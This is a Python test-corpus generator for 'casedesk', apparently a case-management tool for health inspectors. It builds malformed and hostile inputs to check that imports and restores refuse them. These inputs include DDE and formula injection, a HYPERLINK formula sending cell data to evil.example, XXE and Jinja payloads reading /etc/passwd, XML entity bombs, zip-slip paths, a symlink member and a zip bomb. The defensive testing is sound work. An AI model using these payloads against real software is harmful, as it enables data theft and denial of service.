"""The hostile-input corpus, generated as data: each entry is a file (or arguments) a clerk might
feed casedesk by mistake or an attacker on purpose, and the command that reads it."""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from desktop.ledger.rows import (
    CASE_COLUMNS,
    CASE_REQUIRED,
    INSTITUTION_COLUMNS,
    INSTITUTION_REQUIRED,
)


@dataclass(frozen=True)
class Bases:
    """Valid material the hostile entries are derived from (made at run time)."""

    backup_zip: bytes
    key_file: bytes


@dataclass(frozen=True)
class Hostile:
    """One corpus entry: how to make its file, and the command reading it ({file} is replaced)."""

    id: str
    command: tuple[str, ...]
    suffix: str
    make: Callable[[Bases], bytes]
    #: A gap found in another area's code, reported to its owner (the test is a strict xfail).
    known_gap: str = ""


INSTITUTION_ROW = {
    "机构名称": "青溪测试医疗美容诊所",
    "机构类别": "医疗美容诊所",
    "联系电话": "021-55550000",
}
CASE_ROW = {
    "案号": "青卫医案〔2026〕901号", "当事人": "王五", "当事人类型": "个人", "案件来源": "社会举报",
    "案由分类": "机构资质", "案由": "王五非法行医案", "立案日期": "2026-03-02",
}  # fmt: skip

#: Text every text column must refuse: formula/DDE injection, control characters, oversize.
HOSTILE_TEXT: dict[str, object] = {
    "dde-cmd": "=cmd|' /C calc'!A0",
    "dde-plus": "+cmd|' /C notepad'!A0",
    "dde-minus": "-2+3+cmd|' /C calc'!A0",
    "dde-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "formula-simple": "=1+1",
    "ctrl-nul": "诊所\x00名称",
    "ctrl-bell": "诊所\x07",
    "ctrl-escape": "\x1b[31m红色\x1b[0m",
    "ctrl-vtab": "上海\x0b闵行",
    "ctrl-del": "名称\x7f",
    "huge-40k": "医" * 40_000,
}
INSTITUTION_TEXT_FIELDS = ("机构名称", "地址", "法定代表人", "主要负责人", "联系电话", "诊疗科目")
CASE_TEXT_FIELDS = ("案号", "当事人", "案由", "违法事实", "承办人")

#: Wrong types and values per typed column.
INSTITUTION_BAD_VALUES: dict[str, list[object]] = {
    "机构类别": ["医院", 123, True, "医疗美容诊所x", ""],
    "状态": ["营业中", 5, "已注销了"],
    "统一社会信用代码": ["123", "91310000MA1FL0000X", "ＡＢＣＤＥＦＧＨＩＪＫＬＭＮＯＰＱＲ", 3.14],
}
CASE_BAD_VALUES: dict[str, list[object]] = {
    "立案日期": ["2026-13-45", "昨天", "2026/02/30", True, "9999-99-99", ""],
    "处罚决定日期": ["明天", "2026-02-30"],
    "罚款金额(元)": ["abc", -100, "1e400", "NaN", "inf", "12.345", "￥1,000元整啦"],
    "没收违法所得(元)": [-0.01, "十万"],
    "警告": ["也许", 3, "是的吧"],
    "当事人类型": ["公司", 1],
    "案件来源": ["电话", ""],
    "案由分类": ["杂项", 0],
    "专项整治类别": ["其他类"],
    "统一社会信用代码": ["12345"],
}


def _stand_in(value: object, controls: dict[str, str]) -> object:
    # openpyxl refuses control characters: write a stand-in, put the raw character back later.
    if not isinstance(value, str):
        return value
    for char in set(value):
        if (ord(char) < 0x20 and char not in "\t\n\r") or char == "\x7f":
            stand_in = chr(0xE000 + ord(char))
            controls[stand_in] = char
            value = value.replace(char, stand_in)
    return value


def xlsx(headers: list[str], rows: list[dict[str, object]]) -> bytes:
    """An XLSX whose first sheet holds these headers and rows (raw control characters kept)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(headers)
    controls: dict[str, str] = {}
    for row in rows:
        sheet.append([_stand_in(row.get(header), controls) for header in headers])
    for row_cells in sheet.iter_rows(min_row=2):
        for cell in row_cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # keep "=…" as the text the attacker typed
    buffer = io.BytesIO()
    book.save(buffer)
    if not controls:
        return buffer.getvalue()
    members = _members(buffer.getvalue())
    sheet_xml = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    for stand_in, char in controls.items():
        # openpyxl writes non-ASCII characters as character references.
        sheet_xml = sheet_xml.replace(stand_in, char).replace(f"&#{ord(stand_in)};", char)
    members["xl/worksheets/sheet1.xml"] = sheet_xml.encode("utf-8")
    return _zip(members)


def _valid_xlsx(kind: str) -> bytes:
    if kind == "institutions":
        return xlsx(list(INSTITUTION_COLUMNS), [INSTITUTION_ROW])
    return xlsx(list(CASE_COLUMNS), [CASE_ROW])


def _ledger_entries() -> list[Hostile]:
    entries: list[Hostile] = []
    specs = (
        ("institutions", INSTITUTION_COLUMNS, INSTITUTION_ROW, INSTITUTION_TEXT_FIELDS, INSTITUTION_BAD_VALUES, INSTITUTION_REQUIRED),
        ("cases", CASE_COLUMNS, CASE_ROW, CASE_TEXT_FIELDS, CASE_BAD_VALUES, CASE_REQUIRED),
    )  # fmt: skip
    for kind, columns, row, text_fields, bad_values, required in specs:
        command = ("import", kind, "{file}")
        good = dict(row)
        if kind == "institutions":
            good = {**row, "机构名称": "青溪另一家诊所"}
        else:
            good = {**row, "案号": "青卫医案〔2026〕900号"}
        for field in text_fields:
            for label, value in HOSTILE_TEXT.items():
                rows = [good, {**row, field: value}]  # a good row first: all or nothing
                entries.append(
                    Hostile(
                        f"{kind}-{field}-{label}",
                        command,
                        ".xlsx",
                        lambda _b, r=rows, c=columns: xlsx(list(c), r),
                    )
                )
        for field, values in bad_values.items():
            for index, value in enumerate(values):
                rows = [good, {**row, field: value}]
                entries.append(
                    Hostile(
                        f"{kind}-{field}-bad{index}",
                        command,
                        ".xlsx",
                        lambda _b, r=rows, c=columns: xlsx(list(c), r),
                    )
                )
        for name in required:
            headers = [c for c in columns if c != name]
            entries.append(
                Hostile(
                    f"{kind}-missing-{name}",
                    command,
                    ".xlsx",
                    lambda _b, h=headers, r=row: xlsx(h, [r]),
                )
            )
        entries.append(
            Hostile(
                f"{kind}-duplicate-rows",
                command,
                ".xlsx",
                lambda _b, c=columns, r=row: xlsx(list(c), [r, r]),
            )
        )
        entries += _broken_files(kind, command)
    closed = {**CASE_ROW, "处罚决定日期": "2026-01-01"}
    entries.append(
        Hostile(
            "cases-decided-before-filed",
            ("import", "cases", "{file}"),
            ".xlsx",
            lambda _b: xlsx(list(CASE_COLUMNS), [closed]),
        )
    )
    return entries


def _broken_files(kind: str, command: tuple[str, ...]) -> list[Hostile]:
    valid = _valid_xlsx(kind)
    rng = random.Random(kind)
    broken: dict[str, Callable[[Bases], bytes]] = {
        "empty": lambda _b: b"",
        "text-as-xlsx": lambda _b: "机构名称,机构类别\n某诊所,医疗美容诊所\n".encode("gbk"),
        "html-as-xlsx": lambda _b: b"<html><body><table><tr><td>x</td></tr></table></body></html>",
        "pdf-as-xlsx": lambda _b: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n",
        "zip-without-workbook": lambda _b: _zip({"hello.txt": b"not a workbook"}),
        "docx-as-xlsx": lambda _b: _zip(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
        ),
        "sheet-xml-garbage": lambda _b: _replace_member(
            valid,
            "xl/worksheets/sheet1.xml",
            b"<worksheet><sheetData><row><c r='A1' t='s'><v>99</v></c>",
        ),
        "shared-strings-bomb": lambda _b: _replace_member(
            valid,
            "xl/workbook.xml",
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]><workbook>&c;</workbook>",
        ),
        "xxe-external-entity": lambda _b: _replace_member(
            valid,
            "xl/workbook.xml",
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><workbook>&e;</workbook>",
        ),
    }
    for index in range(3):
        size = rng.randrange(10, 5000)
        broken[f"random-bytes-{index}"] = lambda _b, n=size, s=index: random.Random(s).randbytes(n)
    for cut in (0.1, 0.3, 0.5, 0.7, 0.9, 0.99):
        broken[f"truncated-{int(cut * 100)}"] = lambda _b, c=cut: valid[: int(len(valid) * c)]
    for index in range(3):
        broken[f"flipped-bytes-{index}"] = lambda _b, s=index: _flip(valid, s)
    return [
        Hostile(f"{kind}-file-{label}", command, ".xlsx", make) for label, make in broken.items()
    ]


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _replace_member(data: bytes, name: str, content: bytes) -> bytes:
    return _zip({**_members(data), name: content})


def _flip(data: bytes, seed: int) -> bytes:
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(8):
        position = rng.randrange(len(out) // 4, len(out))
        out[position] ^= 0xFF
    return bytes(out)


def _calendar_entries() -> list[Hostile]:
    command = ("calendar", "import", "{file}")
    texts: dict[str, bytes] = {
        "empty": b"",
        "header-only": "日期,类型,名称\n".encode(),
        "bad-date": "2027-02-30,休,春节\n".encode(),
        "bad-kind": "2027-02-01,放假,春节\n".encode(),
        "gbk-encoded": "2027-02-01,休,春节\n".encode("gbk"),
        "binary": bytes(range(256)) * 4,
        "nul-bytes": "2027-02-01,休,春\x00节\n".encode(),
        "huge-field": ("2027-02-01,休," + "节" * 200_000 + "\n").encode(),
        "huge-name": ("2027-02-01,休," + "节" * 500 + "\n").encode(),
        "control-chars": "2027-02-01,休,春节\x07\x1b\n".encode(),
        "formula-name": "2027-02-01,休,=cmd|' /C calc'!A0\n".encode(),
        "formula-date": "=1+1,休,春节\n".encode(),
        "xml-bomb": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>",
    }
    return [
        Hostile(f"calendar-{label}", command, ".csv", lambda _b, t=data: t)
        for label, data in texts.items()
    ]


def _with_manifest(
    base: bytes, change: Callable[[dict[str, Any], dict[str, bytes]], None]
) -> bytes:
    members = _members(base)
    manifest = json.loads(members["manifest.json"])
    change(manifest, members)
    members["manifest.json"] = json.dumps(manifest).encode()
    return _zip(members)


def _raw_zip_with_names(names: list[str]) -> Callable[[Bases], bytes]:
    def make(bases: Bases) -> bytes:
        members = _members(bases.backup_zip)
        manifest = json.loads(members["manifest.json"])
        for name in names:
            members[name] = b"owned"
            manifest["files"].append({"path": name, "sha256": "0" * 64, "size": 5})
        members["manifest.json"] = json.dumps(manifest).encode()
        return _zip(members)

    return make


def _symlink_member(bases: Bases) -> bytes:
    buffer = io.BytesIO(bases.backup_zip)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        link = zipfile.ZipInfo("files/link")
        link.external_attr = 0o120777 << 16
        target.writestr(link, "/etc/passwd")
    return out.getvalue()


def _bomb(_bases: Bases) -> bytes:
    # 200 MB of zeros compresses to ~200 KB: refused by its ratio before anything is written.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "manifest.json",
            json.dumps(
                {
                    "format": "casedesk-backup/1",
                    "files": [{"path": "casedesk.db", "sha256": "0" * 64, "size": 200 * 1024**2}],
                }
            ),
        )
        with archive.open("casedesk.db", "w", force_zip64=True) as member:
            chunk = bytes(1024**2)
            for _ in range(200):
                member.write(chunk)
    return buffer.getvalue()


def _lying_sizes(bases: Bases) -> bytes:
    # A zip whose central directory claims a tiny size for a large member.
    data = bytearray(bases.backup_zip)
    index = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, index + 24, 10)
    return bytes(data)


def _restore_entries() -> list[Hostile]:
    command = ("restore", "{file}")

    def drop(name: str) -> Callable[[dict[str, Any], dict[str, bytes]], None]:
        def change(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
            members.pop(name, None)

        return change

    def tamper_db(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        members["casedesk.db"] = members["casedesk.db"][:-1] + b"\x01"

    def garbage_db(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        import hashlib

        members["casedesk.db"] = b"SQLite format 3\x00" + b"\xff" * 4096
        for entry in manifest["files"]:
            if entry["path"] == "casedesk.db":
                entry["sha256"] = hashlib.sha256(members["casedesk.db"]).hexdigest()
                entry["size"] = len(members["casedesk.db"])

    def wrong_size(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        manifest["files"][0]["size"] += 1

    def wrong_format(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        manifest["format"] = "other-backup/9"

    def extra_member(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        members["unlisted.exe"] = b"MZ"

    def no_db_listed(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        manifest["files"] = [e for e in manifest["files"] if e["path"] != "casedesk.db"]
        members.pop("casedesk.db")

    def files_not_list(manifest: dict[str, Any], members: dict[str, bytes]) -> None:
        manifest["files"] = "all of them"

    made: dict[str, Callable[[Bases], bytes]] = {
        "not-a-zip": lambda _b: b"this is not a zip file",
        "empty": lambda _b: b"",
        "truncated": lambda b: b.backup_zip[: len(b.backup_zip) // 2],
        "flipped": lambda b: _flip(b.backup_zip, 1),
        "empty-zip": lambda _b: _zip({}),
        "no-manifest": lambda b: _zip(
            {k: v for k, v in _members(b.backup_zip).items() if k != "manifest.json"}
        ),
        "manifest-not-json": lambda b: _zip(
            {**_members(b.backup_zip), "manifest.json": b"{not json"}
        ),
        "manifest-wrong-format": lambda b: _with_manifest(b.backup_zip, wrong_format),
        "manifest-files-not-list": lambda b: _with_manifest(b.backup_zip, files_not_list),
        "missing-member": lambda b: _with_manifest(b.backup_zip, drop("casedesk.db")),
        "no-database": lambda b: _with_manifest(b.backup_zip, no_db_listed),
        "unlisted-member": lambda b: _with_manifest(b.backup_zip, extra_member),
        "checksum-mismatch": lambda b: _with_manifest(b.backup_zip, tamper_db),
        "size-mismatch": lambda b: _with_manifest(b.backup_zip, wrong_size),
        "garbage-database": lambda b: _with_manifest(b.backup_zip, garbage_db),
        "path-dotdot": _raw_zip_with_names(["../escaped.txt"]),
        "path-deep-dotdot": _raw_zip_with_names(["files/../../../../tmp/escaped.txt"]),
        "path-absolute": _raw_zip_with_names(["/tmp/escaped.txt"]),
        "path-backslash": _raw_zip_with_names(["..\\..\\escaped.txt"]),
        "path-drive": _raw_zip_with_names(["C:/Windows/escaped.txt"]),
        "path-nul": _raw_zip_with_names(["files/a\x00b"]),
        "symlink": _symlink_member,
        "zip-bomb": _bomb,
        "lying-central-directory": _lying_sizes,
        "xlsx-as-backup": lambda _b: _valid_xlsx("institutions"),
    }
    return [Hostile(f"restore-{label}", command, ".zip", make) for label, make in made.items()]


def _key_entries() -> list[Hostile]:
    command = ("key", "import", "{file}", "--passphrase-env", "CORPUS_KEY_PASSPHRASE")

    def edit(change: Callable[[dict[str, Any]], None]) -> Callable[[Bases], bytes]:
        def make(bases: Bases) -> bytes:
            document = json.loads(bases.key_file)
            change(document)
            return json.dumps(document).encode()

        return make

    made: dict[str, Callable[[Bases], bytes]] = {
        "empty": lambda _b: b"",
        "garbage": lambda _b: bytes(range(256)),
        "json-array": lambda _b: b"[1, 2, 3]",
        "huge": lambda _b: b" " * (1024 * 1024),
        "wrong-format": edit(lambda d: d.update(format="other")),
        "missing-salt": edit(lambda d: d.pop("salt")),
        "bad-base64": edit(lambda d: d.update(ciphertext="!!!not base64!!!")),
        "hostile-kdf-cost": edit(lambda d: d["kdf"].update(n=2**30)),
        "kdf-not-scrypt": edit(lambda d: d["kdf"].update(name="md5")),
        "tampered-ciphertext": edit(lambda d: d.update(ciphertext=d["ciphertext"][:-6] + "AAAAAA")),
        "other-key-id": edit(lambda d: d.update(key_id="ffffffffffffffff")),
    }
    return [Hostile(f"key-{label}", command, ".json", make) for label, make in made.items()]


def _argv_entries() -> list[Hostile]:
    argvs: dict[str, tuple[str, ...]] = {
        "deadline-bad-date": ("deadline", "--from", "2026-02-30", "--days", "3"),
        "deadline-words": ("deadline", "--from", "下周一", "--working-days", "3"),
        "deadline-not-int": ("deadline", "--from", "2026-03-02", "--working-days", "三"),
        "unknown-command": ("销毁",),
        "import-missing-file": ("import", "institutions", "/nonexistent/机构.xlsx"),
        "import-directory": ("import", "cases", "/"),
        "import-bad-kind": ("import", "everything", "x.xlsx"),
        "restore-missing-file": ("restore", "/nonexistent/备份.zip"),
        "restore-directory": ("restore", "/tmp"),
        "key-import-missing": (
            "key",
            "import",
            "/nonexistent.key",
            "--passphrase-env",
            "CORPUS_KEY_PASSPHRASE",
        ),
        "key-import-no-passphrase": (
            "key",
            "import",
            "/nonexistent.key",
            "--passphrase-env",
            "UNSET_VARIABLE_X",
        ),
        "backup-into-missing-drive": ("backup", "--out", "/proc/casedesk/备份.zip"),
        "calendar-missing": ("calendar", "import", "/nonexistent.csv"),
        "audit-bad-action": ("audit", "erase"),
    }
    return [Hostile(f"argv-{label}", argv, "", lambda _b: b"") for label, argv in argvs.items()]


#: The shipped template the malformed variants replace.
TEMPLATE = "closing_report.docx"
TEMPLATES_DIR = Path(__file__).resolve().parents[2] / "templates"


def _template_with_body(body: str) -> Callable[[Bases], bytes]:
    def make(_bases: Bases) -> bytes:
        members = _members((TEMPLATES_DIR / TEMPLATE).read_bytes())
        xml = members["word/document.xml"].decode("utf-8")
        start = xml.index("<w:body>") + len("<w:body>")
        paragraph = f'<w:p><w:r><w:t xml:space="preserve">{body}</w:t></w:r></w:p>'
        members["word/document.xml"] = (xml[:start] + paragraph + xml[start:]).encode("utf-8")
        return _zip({TEMPLATE: _zip(members)})

    return make


def _template_entries() -> list[Hostile]:
    """Malformed templates in a copy of the template folder (`templates check DIR`)."""
    command = ("templates", "check", "{file}")
    original = (TEMPLATES_DIR / TEMPLATE).read_bytes()
    bomb = (
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
        b"<!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]><w:document>&b;</w:document>"
    )
    made: dict[str, Callable[[Bases], bytes]] = {
        "garbage": lambda _b: _zip({TEMPLATE: b"garbage, not a docx"}),
        "empty": lambda _b: _zip({TEMPLATE: b""}),
        "truncated": lambda _b: _zip({TEMPLATE: original[: len(original) // 2]}),
        "no-document-xml": lambda _b: _zip(
            {
                TEMPLATE: _zip(
                    {k: v for k, v in _members(original).items() if k != "word/document.xml"}
                )
            }
        ),
        "document-xml-broken": lambda _b: _zip(
            {TEMPLATE: _replace_member(original, "word/document.xml", b"<w:document><w:body>")}
        ),
        "jinja-unclosed": _template_with_body("{{ party_name "),
        "jinja-bad-for": _template_with_body("{%p for x in %}"),
        "jinja-unknown-variable": _template_with_body("{{ not_a_field_of_any_form }}"),
        "jinja-sandbox-escape": _template_with_body(
            "{{ ''.__class__.__mro__[1].__subclasses__() }}"
        ),
        "jinja-include-file": _template_with_body("{% include '/etc/passwd' %}"),
        "xml-entity-bomb": lambda _b: _zip(
            {TEMPLATE: _replace_member(original, "word/document.xml", bomb)}
        ),
    }
    return [Hostile(f"template-{label}", command, ".dir", make) for label, make in made.items()]


def _archive_entries() -> list[Hostile]:
    """Hostile 归档包 given to `archive verify`."""
    command = ("archive", "verify", "{file}")
    made: dict[str, Callable[[Bases], bytes]] = {
        "garbage": lambda _b: b"not an archive",
        "empty-zip": lambda _b: _zip({}),
        "path-dotdot": lambda _b: _zip({"../escaped.pdf": b"%PDF", "manifest.json": b"{}"}),
        "zip-bomb": _bomb,
    }
    return [Hostile(f"archive-{label}", command, ".zip", make) for label, make in made.items()]


def corpus() -> list[Hostile]:
    """Every entry of the corpus."""
    return (
        _ledger_entries()
        + _calendar_entries()
        + _restore_entries()
        + _key_entries()
        + _template_entries()
        + _archive_entries()
        + _argv_entries()
    )
